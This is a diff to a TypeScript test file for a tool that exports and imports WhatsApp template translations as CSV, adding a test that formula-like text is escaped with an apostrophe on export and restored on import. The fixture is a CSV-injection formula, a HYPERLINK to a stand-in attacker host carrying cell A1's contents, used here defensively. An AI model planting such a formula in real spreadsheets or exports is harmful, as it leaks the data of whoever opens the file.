@@ -4,7 +4,8 @@
 // lint's own limits (a card's 160, an offer's 600, counted as written) and a footer with a line
 // break were written, then refused by lint; a PO declared ISO-8859-1 holding Windows-1252 quotes
 // wrote C1 controls; an autocorrected source cell (I'll -> I’ll) made lint call the text outdated;
-// a unit in the file but not translated was said to be "not in the file".
+// a unit in the file but not translated was said to be "not in the file"; a text starting with =
+// went to the CSV as a formula a spreadsheet would run.
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { test } from 'uvu';
@@ -148,6 +149,28 @@ test('a source cell autocorrected (I\'ll -> I’ll) is the template\'s text: the
     writeFiles(dir, { 'tr/es.csv': half.replace(/("shop-whatsapp\/order_shipped:footer","[^"]*",)""/, (_m, head: string) => `${head}"Responde STOP para darte de baja"`) });
     r = await importTranslations(config, ['tr/es.csv'], dir);
     assert.equal([r.refusals, r.written.map((w) => w.file)], [[], ['templates/order_shipped.es.yaml']]);
+    assert.equal(await outdated(dir), []);
+  } finally { cleanup(dir); }
+});
+
+test('a text a spreadsheet would run as a formula goes to the CSV behind an apostrophe, and comes back without it', async () => {
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Help")';
+  const en = EN.replace(`footer: ${FOOTER}`, `footer: '${formula}'`);
+  const { dir, config } = await project({ 'templates/order_shipped.en_US.yaml': en });
+  try {
+    await exportTranslations(config, [], dir, { source: 'en_US', targets: ['de'], format: 'csv', out: 'tr' });
+    const csv = read(dir, 'tr/de.csv');
+    assert.match(csv, '"shop-whatsapp/order_shipped:footer","\'=HYPERLINK(""https://evil.example/?""&A1,""Help"")"');
+    assert.not.match(csv, /,"=/);
+    // the translator's cells as a spreadsheet saves them, the apostrophe kept where the text starts so
+    const filled = csv
+      .replace(/("shop-whatsapp\/order_shipped:body\.text","(?:[^"]|"")*",)""/, (_m, head: string) => `${head}"Hallo {{customer}}, deine Bestellung ist unterwegs."`)
+      .replace(/("shop-whatsapp\/order_shipped:footer","(?:[^"]|"")*",)""/, (_m, head: string) => `${head}"'-20 % mit STOP abmelden"`);
+    writeFiles(dir, { 'tr/de.csv': filled });
+    const r = await importTranslations(config, ['tr/de.csv'], dir);
+    assert.equal(r.refusals, []);
+    assert.is((parse(read(dir, 'templates/order_shipped.de.yaml')) as { footer: string }).footer, '-20 % mit STOP abmelden');
+    // the source cell with its apostrophe is the template's own text: nothing outdated
     assert.equal(await outdated(dir), []);
   } finally { cleanup(dir); }
 });
